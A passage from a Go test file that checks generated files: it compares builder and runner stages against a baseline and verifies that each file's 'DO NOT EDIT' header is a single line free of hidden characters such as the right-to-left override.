			t.Fatalf("%q: %v\n%s", name, err, files[0].Data)
		}
		for _, stage := range []string{"builder", "runner"} {
			if diff := cmp.Diff(shape(base.rb[stage]), shape(rb[stage])); diff != "" {
				t.Errorf("%q: the %s stage changed (-want +got):\n%s\n%s", name, stage, diff, files[0].Data)
			}
		}
		for _, f := range files {
			header, _, _ := strings.Cut(string(f.Data), "DO NOT EDIT.")
			if strings.ContainsFunc(header, func(r rune) bool { return r == '\r' || r == '\u2028' || r == '\u202e' }) || strings.Count(header, "\n") > 1 {
				t.Errorf("%q: %s header spans lines or hides characters: %q", name, f.Path, header)
			}
		}
	}
}

// uniqueSorted returns its arguments sorted, without duplicates.
func uniqueSorted(s ...string) []string {
	slices.Sort(s)
	return slices.Compact(s)
}
